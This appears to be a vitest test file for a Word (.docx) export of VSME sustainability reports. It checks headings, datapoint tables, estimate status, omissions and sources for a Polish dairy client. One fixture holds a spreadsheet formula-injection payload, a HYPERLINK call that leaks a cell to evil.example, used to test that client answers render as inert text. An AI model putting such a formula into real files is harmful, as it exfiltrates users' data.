import { strFromU8, unzipSync } from 'fflate';
import type { VsmeReport } from '@impact/contracts';
import { vsmeDatapoint, vsmeDisclosures, vsmeVersion } from '@impact/knowledge';
import { describe, expect, it } from 'vitest';
import { fixtureVsmeReport, vsmeValue, withValues } from './fixture-vsme-report.js';
import { buildVsmeExport } from './index.js';

/** Opens the .docx as the zip package Word reads and returns its parts as text. */
async function openDocx(report: VsmeReport): Promise<Record<string, string>> {
  const { body } = await buildVsmeExport(report, 'docx');
  const files = unzipSync(new Uint8Array(body as Buffer));
  return Object.fromEntries(Object.entries(files).map(([name, bytes]) => [name, strFromU8(bytes)]));
}

const decode = (text: string) =>
  text
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&amp;/g, '&');

/** Each paragraph's style and text; a line break inside a paragraph reads as '\n'. */
function paragraphs(xml: string): { style: string | null; text: string }[] {
  return [...xml.matchAll(/<w:p[ >][\s\S]*?<\/w:p>/g)].map(([p]) => ({
    style: /<w:pStyle w:val="([^"]+)"/.exec(p)?.[1] ?? null,
    text: decode(
      [...p.matchAll(/<w:br\/>|<w:t(?: [^>]*)?>([^<]*)<\/w:t>/g)]
        .map((m) => (m[0] === '<w:br/>' ? '\n' : m[1]))
        .join(''),
    ),
  }));
}

const withStyle = (xml: string, style: string) =>
  paragraphs(xml)
    .filter((p) => p.style === style)
    .map((p) => p.text);

/** Every table row as its cells' texts (a cell's paragraphs joined by '\n'), with the row's raw XML. */
function tableRows(xml: string): { cells: string[]; xml: string }[] {
  return [...xml.matchAll(/<w:tr>[\s\S]*?<\/w:tr>/g)].map(([row]) => ({
    xml: row,
    cells: [...row.matchAll(/<w:tc>[\s\S]*?<\/w:tc>/g)].map(([c]) =>
      paragraphs(c)
        .map((p) => p.text)
        .join('\n'),
    ),
  }));
}

/** The row of a datapoint, found by its label (the first line of its first cell). */
function rowOf(xml: string, label: string): { cells: string[]; xml: string } {
  const row = tableRows(xml).find((candidate) => candidate.cells[0]?.split('\n')[0] === label);
  if (!row) throw new Error(`no row for ${label}`);
  return row;
}

const label = (id: string) => vsmeDatapoint('vsme-recommendation-2025', id)?.label ?? id;

describe('VSME report as Word', () => {
  it('writes a valid Word package titled with the client’s name, Polish letters intact', async () => {
    const parts = await openDocx(fixtureVsmeReport());
    expect(Object.keys(parts)).toEqual(expect.arrayContaining(['word/document.xml', 'word/styles.xml']));
    expect(parts['docProps/core.xml']).toContain(
      '<dc:title>Zakład Mleczarski Łódź Sp. z o.o. – VSME report</dc:title>',
    );
    expect(Object.entries(parts).find(([name]) => name.startsWith('word/footer'))?.[1]).toContain(
      'Zakład Mleczarski Łódź Sp. z o.o. · VSME report',
    );
  });

  it('opens with a title page: client, VSME report, the version followed, modules, period and completeness', async () => {
    const report = fixtureVsmeReport();
    const document = (await openDocx(report))['word/document.xml'] ?? '';
    const { overall } = report.completeness;
    const share = Math.round((100 * overall.answered) / overall.applicable);
    expect(
      paragraphs(document)
        .slice(0, 6)
        .map((p) => p.text),
    ).toEqual([
      'VSME report',
      'Zakład Mleczarski Łódź Sp. z o.o.',
      vsmeVersion('vsme-recommendation-2025').title,
      'Modules reported: Basic & Comprehensive',
      'Reporting period: Jan 1, 2025 – Dec 31, 2025',
      `Completeness: ${overall.answered} of ${overall.applicable} applicable datapoints answered (${share}%) · ${overall.missing} missing · ${overall.awaitingReview} awaiting review`,
    ]);
    expect(withStyle(document, 'Title')).toEqual(['Zakład Mleczarski Łódź Sp. z o.o.']);
  });

  it('follows the standard: Basic then Comprehensive Module, each disclosure a heading and a table', async () => {
    const document = (await openDocx(fixtureVsmeReport()))['word/document.xml'] ?? '';
    expect(withStyle(document, 'Heading1')).toEqual([
      'Basic Module',
      'Comprehensive Module',
      'Sources',
      'Estimation factors',
    ]);
    const disclosures = vsmeDisclosures('vsme-recommendation-2025');
    expect(withStyle(document, 'Heading2')).toEqual(disclosures.map((d) => `${d.code} – ${d.title}`));
    expect(withStyle(document, 'Heading2').slice(0, 2)).toEqual([
      'B1 – Basis for preparation',
      'B2 – Practices, policies and future initiatives for transitioning towards a more sustainable economy',
    ]);
    const all = paragraphs(document);
    const b3Heading = all.findIndex((p) => p.style === 'Heading2' && p.text.startsWith('B3 '));
    const b3 = fixtureVsmeReport().completeness.disclosures.find((count) => count.code === 'B3');
    expect(all[b3Heading + 1]?.text).toBe(
      `${b3?.answered} of ${b3?.applicable} applicable datapoints answered (${Math.round((100 * (b3?.answered ?? 0)) / (b3?.applicable ?? 1))}%) · ${b3?.missing} missing · 1 awaiting review`,
    );
    const tables = [...document.matchAll(/<w:tbl>[\s\S]*?<\/w:tbl>/g)];
    expect(tables).toHaveLength(disclosures.length + 1); // and the factors
    expect(tables[0]?.[0]).toContain('<w:tblHeader/>');
    expect(tableRows(tables[0]?.[0] ?? '')[0]?.cells).toEqual(['Datapoint', 'Value', 'Notes']);
  });

  it('says so when the version followed has no modelled disclosures', async () => {
    const report: VsmeReport = { ...fixtureVsmeReport(), versionId: 'vsme-delegated-act' };
    const document = (await openDocx(report))['word/document.xml'] ?? '';
    const version = vsmeVersion('vsme-delegated-act');
    expect(paragraphs(document)[2]?.text).toBe(version.title);
    expect(withStyle(document, 'Heading2')).toEqual([]);
    expect(paragraphs(document).map((p) => p.text)).toContain(
      `The disclosures of this version are not modelled: ${version.statusNote}`,
    );
  });

  it('leaves out the Comprehensive Module from a Basic report', async () => {
    const document = (await openDocx({ ...fixtureVsmeReport(), module: 'basic' }))['word/document.xml'] ?? '';
    expect(withStyle(document, 'Heading1')).toEqual(['Basic Module', 'Sources', 'Estimation factors']);
    expect(withStyle(document, 'Heading2').every((text) => text.startsWith('B'))).toBe(true);
    expect(paragraphs(document).map((p) => p.text)).toContain('Modules reported: Basic');
  });

  it('shows each datapoint with its EFRAG label, paragraph, value with unit, and status, method and sources', async () => {
    const document = (await openDocx(fixtureVsmeReport()))['word/document.xml'] ?? '';
    expect(rowOf(document, 'Turnover').cells).toEqual([
      'Turnover\nParagraph 24(e)(iv) · vsme:Turnover',
      '18,400,000 EUR',
      'Found\nMethod: Net revenue from the 2025 income statement\nSources: [1]',
    ]);
    expect(rowOf(document, 'Number of employees').cells.slice(1)).toEqual([
      '120 headcount',
      'Client-provided\nMethod: Answered by the client',
    ]);
    expect(rowOf(document, label('HasEnergyBreakdownInformation')).cells[0]).toBe(
      `${label('HasEnergyBreakdownInformation')}\nParagraph 29 · HasEnergyBreakdownInformation`,
    );
    expect(rowOf(document, 'Assets').cells.slice(1)).toEqual(['Not reported', 'Missing']);
    const circular = rowOf(document, label('DescriptionOfHowCircularEconomyPrinciplesAreApplied'));
    expect(circular.cells.slice(1)).toEqual([
      'Příliš žluťoučký kůň úpěl ďábelské ódy: obaly se vracejí dodavateli.\nMehrwegkisten in Größe M für Kunden in Österreich.',
      'Entered by the consultant\nNote: Opis zatwierdzony przez zarząd (Łódź).',
    ]);
  });

  it('never shows an estimate nobody accepted as a confirmed figure, nor one returned for revision', async () => {
    const document = (await openDocx(fixtureVsmeReport()))['word/document.xml'] ?? '';
    const pending = rowOf(document, label('GrossScope1GreenhouseGasEmissions'));
    expect(pending.cells.slice(1)).toEqual([
      '373.24 tCO2e (estimate, not yet accepted)',
      'Estimated – not yet accepted\nMethod: Scope 1 from 2,040 MWh of natural gas × 0.18296 tCO2e/MWh\nSources: [2]',
    ]);
    expect(pending.xml).toMatch(/<w:i\/>[\s\S]*373\.24 tCO2e/);
    expect(rowOf(document, label('GrossLocationBasedScope2GreenhouseGasEmissions')).cells[2]).toMatch(
      /^Estimated – accepted\n/,
    );
    const returned = rowOf(document, label('GrossMarketBasedScope2GreenhouseGasEmissions'));
    expect(returned.cells.slice(1)).toEqual([
      'Not reported (returned for revision)',
      'Estimated – returned for revision',
    ]);
    expect(document).not.toContain('981.5');
    expect(document).not.toContain('Wrong supplier mix');
    const client = rowOf(document, label('DescriptionOfSignificantGroupsOfProductsAndOrServicesOffered'));
    expect(client.cells[1]).toBe(
      '=HYPERLINK("https://evil.example/?leak="&A1,"Open") (client’s answer, not yet accepted)',
    );
    expect(client.cells[2]).toMatch(/^Client-provided – not yet accepted\n/);
  });

  it('lists datapoints that do not apply as not applicable, with the reason, never blank', async () => {
    const document = (await openDocx(fixtureVsmeReport()))['word/document.xml'] ?? '';
    const question = vsmeDatapoint(
      'vsme-recommendation-2025',
      'HasSustainabilityCertificationsOrLabels',
    )?.templateQuestion;
    expect(
      rowOf(document, label('DescriptionOfSustainabilityRelatedCertificationsOrLabels')).cells.slice(1),
    ).toEqual([
      'Not applicable',
      `Not applicable: applies only when “${question}” is Yes; the answer is No.`,
    ]);
    expect(rowOf(document, 'List of subsidiary [table]').cells[2]).toBe(
      'Not applicable: applies only when “Basis for reporting (consolidated or individual basis)” is Consolidated; the answer is Individual.',
    );
    expect(rowOf(document, label('PercentageGapInPayBetweenFemaleAndMaleEmployees')).cells[2]).toBe(
      'Not applicable: applies only when “Number of employees” is at least 150 (a threshold not verified against the standard’s text); the answer is 120.',
    );
    expect(
      rowOf(document, label('FemaleToMaleRatioAtManagementLevelForTheReportingPeriod')).cells.slice(1),
    ).toEqual(['Not applicable', 'Not applicable: The owner is the only manager.']);
    // The turnover rate applies from 50 employees: 120 is more, so it is missing, not 'not applicable'.
    expect(rowOf(document, label('EmployeeTurnoverRate')).cells[2]).toBe('Missing');
    for (const row of tableRows(document)) expect(row.cells[1], row.cells[0]).not.toBe('');
  });

  it('gives the omission statement for omitted datapoints and nothing of their evidence', async () => {
    const parts = await openDocx(fixtureVsmeReport());
    const document = parts['word/document.xml'] ?? '';
    const convictions = label('TotalNumberOfConvictionsForTheViolationOfAntiCorruptionAndAntiBriberyLaws');
    expect(rowOf(document, convictions).cells.slice(1)).toEqual([
      'Omitted (classified or sensitive information)',
      `Omitted: “${convictions}” (B11) is omitted because it is deemed classified or sensitive information.`,
    ]);
    expect(
      rowOf(document, label('TotalAmountOfFinesForTheViolationOfAnticorruptionAndAntibriberyLaws')).cells[2],
    ).toBe('Omitted: Fines are omitted as classified information while proceedings in Łódź are pending.');
    expect(document).not.toContain('Grzywna');
    expect(document).not.toContain('Court ruling');
    expect(parts['word/_rels/document.xml.rels']).not.toContain('postepowanie-2025');
  });

  it('renders a table value as nested rows under its datapoint', async () => {
    const document = (await openDocx(fixtureVsmeReport()))['word/document.xml'] ?? '';
    const rows = tableRows(document);
    const at = rows.findIndex((row) => row.cells[0]?.startsWith('List of sites [table]\n'));
    expect(rows.slice(at, at + 3).map((row) => row.cells)).toEqual([
      [
        'List of sites [table]\nParagraph 24(e)(vii) · vsme:ListOfSitesTable',
        'Table, 2 rows below',
        'Found\nSources: [1]',
      ],
      [
        '↳ Zakład Łódź',
        'Address of site: ul. Źródłowa 12\nPostal code of site: 91-735\nCity of site: Łódź\nCountry of site: PL',
        '',
      ],
      ['↳ Sklad Brno', 'Address of site: Příkop 843/4\nCity of site: Brno\nCountry of site: CZ', ''],
    ]);
    const energy = rows.findIndex((row) =>
      row.cells[0]?.startsWith('Breakdown of energy consumption [table]\n'),
    );
    expect(rows[energy + 2]?.cells.slice(0, 2)).toEqual([
      '↳ Non-renewable energy',
      'Energy consumption from electricity: 0 MWh\nEnergy consumption from fuels: 2,040 MWh',
    ]);
    // The table's columns are datapoints too: where the table gives their figures, they point to it.
    expect(rowOf(document, 'Energy consumption from fuels').cells.slice(1)).toEqual([
      'See the table above',
      'Given in the table “Breakdown of energy consumption [table]”',
    ]);
    expect(rowOf(document, 'Address of site').cells[2]).toBe('Given in the table “List of sites [table]”');
    expect(rowOf(document, 'GPS Location of site').cells[2]).toBe('Missing');
    // And the other way round: Scope 1 and 2 have values of their own, the emissions table has none.
    expect(rowOf(document, 'Estimated greenhouse gas emissions [table]').cells.slice(1)).toEqual([
      'See the datapoints below',
      'Given by the datapoints of its columns, below',
    ]);
  });

  it('ends with the numbered sources, linked from the notes, and the estimation factors', async () => {
    const parts = await openDocx(fixtureVsmeReport());
    const document = parts['word/document.xml'] ?? '';
    const entries = paragraphs(document).filter((p) => /^\[\d+\]/.test(p.text));
    expect(entries.map((p) => p.text)).toEqual([
      '[1]Uploaded document: Sprawozdanie finansowe 2025 – Zakład Mleczarski.pdf. “Przychody netto ze sprzedaży wyniosły 18,4 mln EUR (2024: 17,1 mln EUR).” (page 7 · Rachunek zysków i strat). Retrieved Oct 14, 2026.',
      '[2]Zrównoważony rozwój – energia. https://www.mleczarnia-lodz.example/zrownowazony-rozwoj. “W 2025 r. zużyliśmy łącznie 2 450 MWh energii, w tym 410 MWh z paneli fotowoltaicznych.” Retrieved Oct 2, 2026.',
    ]);
    expect(document).toContain('<w:bookmarkStart w:name="source_2"');
    expect(document).toContain('<w:hyperlink w:history="1" w:anchor="source_2">');
    expect(parts['word/_rels/document.xml.rels']).toContain(
      'Target="https://www.mleczarnia-lodz.example/zrownowazony-rozwoj" TargetMode="External"',
    );
    const factors = [...document.matchAll(/<w:tbl>[\s\S]*?<\/w:tbl>/g)].at(-1)?.[0] ?? '';
    expect(tableRows(factors).map((row) => row.cells)).toEqual([
      ['Factor', 'Value', 'Unit', 'Country', 'Year', 'Dataset'],
      [
        `Natural gas, gross calorific value\nUsed for: ${label('GrossScope1GreenhouseGasEmissions')}`,
        '0.18296',
        'tCO2e/MWh',
        '–',
        '2025',
        'UK Government GHG Conversion Factors for Company Reporting 2025 https://www.gov.uk/government/publications/greenhouse-gas-reporting-conversion-factors-2025',
      ],
      [
        `Electricity grid, location-based\nUsed for: ${label('GrossLocationBasedScope2GreenhouseGasEmissions')}`,
        '0.662',
        'tCO2e/MWh',
        'PL',
        '2024',
        'KOBiZE: emission factors for electricity 2024',
      ],
    ]);
  });

  it('has no factors appendix without an estimate shown, and keeps out what Word’s XML cannot hold', async () => {
    const report = fixtureVsmeReport();
    const noEstimates = {
      ...report,
      values: report.values.map((item) => (item.status === 'estimated' ? vsmeValue(item.datapointId) : item)),
    };
    const document = (await openDocx(noEstimates))['word/document.xml'] ?? '';
    expect(withStyle(document, 'Heading1')).toEqual(['Basic Module', 'Comprehensive Module', 'Sources']);

    const hostile = withValues(report, [
      vsmeValue('Assets', { status: 'entered', value: 'ab\u0001c\uD800d\uFFFE' }),
    ]);
    const cleaned = (await openDocx(hostile))['word/document.xml'] ?? '';
    expect(rowOf(cleaned, 'Assets').cells[1]).toBe('abcd EUR');
  });
});
